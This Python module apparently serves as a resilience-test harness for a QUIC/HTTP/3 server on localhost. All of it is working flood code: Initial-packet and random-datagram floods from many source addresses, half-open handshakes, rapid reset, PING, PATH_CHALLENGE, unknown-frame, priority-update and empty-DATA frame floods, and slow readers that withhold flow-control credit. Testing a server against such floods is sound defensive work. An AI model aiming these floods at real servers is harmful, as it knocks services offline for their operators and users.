"""The datagrams and frames that QUIC and HTTP/3 clients send to exhaust a server. FLOODS has each attack, by name.
Takes aioquic, which build/venv has.

attack() runs one in its own process, from addresses that begin with `network`. Floods of datagrams send RATE a
second; those of connections as much as aioquic can, on CONNECTIONS connections at a time, each of which is reopened
when the server ends it.
"""

import contextlib
import functools
import os
import select
import socket
import ssl
import time

from aioquic.quic import events
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.packet import QuicFrameType
from aioquic.quic.packet_builder import QuicPacketBuilderStop

RATE, CONNECTIONS, READERS, SOURCES = 5000, 8, 200, 200  # a second; SOURCES: addresses
INITIALS, DATAGRAM, BATCH, FRAMES = 2000, 1200, 50, 500
CONTROL, SETTINGS, DATA, UNKNOWN, PRIORITY_UPDATE = b"\0", b"\4\0", b"\0\0", b"\x21\0", b"\x80\x0f\x07\0\x04\0u=1"
REQUEST_CANCELLED = 0x10C
TURN_S, TICK_S = 0.05, 0.01
UNSENT = 1 << 16
RETRY = 0xF0  # the first bits of its datagram


def get(path):
    """Returns a request in a HEADERS frame. QPACK: of the static table, with literal values."""
    block = b"\0\0\xd1\xd7\x50\x09localhost\x51" + bytes([len(path)]) + path
    return b"\1" + bytes([len(block)]) + block


SMALL, LARGE = get(b"/1k"), get(b"/10m")


class Connection:
    """A connection of a client. takes: which of the datagrams that come it takes, by their first octet."""

    def __init__(self, port, source, window=1 << 24, takes=lambda first: True):
        self.address, self.takes = ("127.0.0.1", port), takes
        self.socket = socket.socket(type=socket.SOCK_DGRAM)
        self.socket.bind((source, 0))
        self.socket.connect(self.address)
        self.socket.setblocking(False)
        self.open, self.ended, self.next_stream = False, False, 0
        self.quic = QuicConnection(configuration=QuicConfiguration(alpn_protocols=["h3"], server_name="localhost", verify_mode=ssl.CERT_NONE,
                                                                   max_stream_data=window, max_data=window))  # fmt: skip
        self.quic.connect(self.address, time.monotonic())
        self.quic.send_stream_data(2, CONTROL + SETTINGS)

    def flush(self):
        for datagram, _ in self.quic.datagrams_to_send(time.monotonic()):
            with contextlib.suppress(OSError):
                self.socket.send(datagram)

    def turn(self):
        """Takes what has come."""
        with contextlib.suppress(OSError):
            for _ in range(BATCH):
                datagram = self.socket.recv(1 << 16)
                if self.takes(datagram[0]):
                    self.quic.receive_datagram(datagram, self.address, time.monotonic())
        timer = self.quic.get_timer()
        if timer is not None and time.monotonic() >= timer:
            self.quic.handle_timer(time.monotonic())
        while event := self.quic.next_event():
            self.open |= isinstance(event, events.HandshakeCompleted)
        self.ended = self.quic._close_event is not None  # pylint: disable=protected-access
        self.flush()

    def stream(self):
        number, self.next_stream = self.next_stream, self.next_stream + 4
        return number

    def send(self, stream, data):
        """Sends data, unless there is much to be sent before. Returns false if the server has stopped the stream."""
        if stream in self.quic._streams and len(self.quic._streams[stream].sender._buffer) > UNSENT:  # pylint: disable=protected-access
            return True
        with contextlib.suppress(RuntimeError, ValueError):
            self.quic.send_stream_data(stream, data)
            return True
        return False

    def may_open(self):
        return self.quic._remote_max_streams_bidi * 4 - self.next_stream >= BATCH * 4  # pylint: disable=protected-access


# --- floods of connections: what each of them sends in a turn ---


def raw(kind, length):
    """Returns a flood of frames that QUIC itself has, with random octets."""

    def write(builder, *_, **__):
        with contextlib.suppress(QuicPacketBuilderStop):
            while True:
                builder.start_frame(kind, capacity=1 + length).push_bytes(os.urandom(length))

    def send(c):
        c.quic._write_ping_frame = write  # pylint: disable=protected-access
        for n in range(BATCH):
            c.quic.send_ping(n)
            c.flush()

    return send


def resets(c):
    if not c.may_open():
        return
    for _ in range(BATCH):
        stream = c.stream()
        c.quic.send_stream_data(stream, LARGE)
        c.quic.reset_stream(stream, REQUEST_CANCELLED)
    c.flush()


def on_control(data):
    return lambda c: c.send(2, data * FRAMES)


def on_request(data):
    """Returns a flood of them behind a request, and another one when the server stops its stream."""

    def send(c):
        if not c.next_stream or not c.send(c.next_stream - 4, data * FRAMES):
            c.quic.send_stream_data(c.stream(), SMALL)

    return send


def ask_once(c):
    if not c.next_stream:
        for _ in range(BATCH):
            c.quic.send_stream_data(c.stream(), LARGE, True)
    c.quic.send_ping(0)


def connections(send, count=CONNECTIONS, pause_s=0.0, window=1 << 24):
    def attack_with(port, sources):
        held = []
        while True:
            for c in [c for c in held if c.ended]:
                c.socket.close()
                held.remove(c)
            if len(held) < count:
                held.append(Connection(port, next(sources), window))
                held[-1].flush()
            for c in held:
                if c.open and not c.ended:
                    send(c)
                c.turn()
            if pause_s or not any(c.open for c in held):
                select.select([c.socket for c in held], [], [], max(pause_s, TICK_S))

    return attack_with


def readers():
    """READERS connections ask for much, let the server send 256 KB, and read no more."""

    def send(c):
        c.quic._write_stream_limits = c.quic._write_connection_limits = lambda *_, **__: None  # pylint: disable=protected-access
        ask_once(c)

    return connections(send, READERS, pause_s=TURN_S, window=1 << 18)


# --- floods of datagrams ---


@functools.cache
def initials():
    """Returns datagrams that begin connections."""
    found = []
    for _ in range(INITIALS):
        quic = QuicConnection(configuration=QuicConfiguration(alpn_protocols=["h3"], server_name="localhost", verify_mode=ssl.CERT_NONE))
        quic.connect(("127.0.0.1", 1), time.monotonic())
        found.append(quic.datagrams_to_send(time.monotonic())[0][0])
    return found


def paced(datagrams):
    """Sends them again and again, RATE a second, each from another address."""

    def attack_with(port, sources):
        sockets = []
        for _ in range(SOURCES):
            s = socket.socket(type=socket.SOCK_DGRAM)
            s.bind((next(sources), 0))
            s.connect(("127.0.0.1", port))
            s.setblocking(False)
            sockets.append(s)
        those, sent, begun = datagrams(), 0, time.monotonic()
        while True:
            while sent < (time.monotonic() - begun) * RATE:
                with contextlib.suppress(OSError):
                    sockets[sent % SOURCES].send(those[sent % len(those)])
                sent += 1
            time.sleep(TICK_S)

    return attack_with


def half_open(port, sources):
    """Handshakes that end when the address is validated: only a Retry is answered. As many as aioquic can begin."""
    held = []
    while True:
        held.append(Connection(port, next(sources), takes=lambda first: first & RETRY == RETRY))
        held[-1].flush()
        if len(held) >= BATCH:
            time.sleep(TICK_S)
            for c in held:
                c.turn()
                c.socket.close()
            held.clear()


# What connections send, by name.
FRAMES_OF = {
    "path challenges": raw(QuicFrameType.PATH_CHALLENGE, 8),
    "pings": raw(QuicFrameType.PING, 0),
    "rapid reset": resets,
    "unknown frames": on_control(UNKNOWN),
    "priorities": on_control(PRIORITY_UPDATE),
    "empty data": on_request(DATA),
}
FLOODS = {
    "Initial packets": paced(initials),
    "random datagrams": paced(lambda: [os.urandom(DATAGRAM) for _ in range(INITIALS)]),
    "half-open handshakes": half_open,
    **{name: connections(send) for name, send in FRAMES_OF.items()},
    "slow readers": readers(),
}


def attack(port, name, network):
    """network: three numbers, "127.8.0"."""

    def sources():
        while True:
            yield from (f"{network}.{1 + n}" for n in range(SOURCES))

    FLOODS[name](port, sources())
